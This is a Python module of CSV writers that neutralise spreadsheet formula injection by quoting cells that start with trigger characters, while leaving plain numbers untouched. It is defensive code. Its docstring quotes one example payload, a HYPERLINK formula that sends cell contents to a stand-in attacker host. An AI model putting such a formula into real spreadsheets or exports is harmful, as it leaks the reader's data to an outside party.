"""CSV writers that neutralise spreadsheet formulas (CSV / formula injection).

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as
a formula by Excel, LibreOffice and Google Sheets when the file is opened, so a título
like `=HYPERLINK("http://evil.example/?x="&A1,"Ver")` in a public download would run on
the reader's machine. Following OWASP's guidance (CSV Injection), such a cell gets a
leading single quote, which spreadsheets show as text and do not evaluate.

Legitimate data must survive: numbers written as numbers (int, float, Decimal) are
left alone, and so are texts that are only a number (`-5`, `+52`, `-1,234.50`) and a
lone `-` (a code meaning «none»); none of them can call a function.
The csv module already quotes separators, quotes and line breaks inside a cell, so a
value cannot break out into the next cell.
"""

import csv
import re
from decimal import Decimal

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def neutralise(value):
    """The value as a spreadsheet will read it safely: formulas turned into text."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if (text[:1] in TRIGGERS and text != "-"
            and not _PLAIN_NUMBER.fullmatch(text)):
        return "'" + text
    return text


class Writer:
    """`csv.writer` whose cells pass through `neutralise` (same writerow/writerows)."""

    def __init__(self, f, *args, **kwargs):
        self._writer = csv.writer(f, *args, **kwargs)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row):
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(f, *args, **kwargs) -> Writer:
    """Drop-in for `csv.writer` that neutralises formulas."""
    return Writer(f, *args, **kwargs)


class DictWriter(csv.DictWriter):
    """Drop-in for `csv.DictWriter` that neutralises formulas (header included)."""

    def __init__(self, f, fieldnames, *args, **kwargs):
        super().__init__(f, fieldnames, *args, **kwargs)
        self.writer = Writer(f, self.writer.dialect)
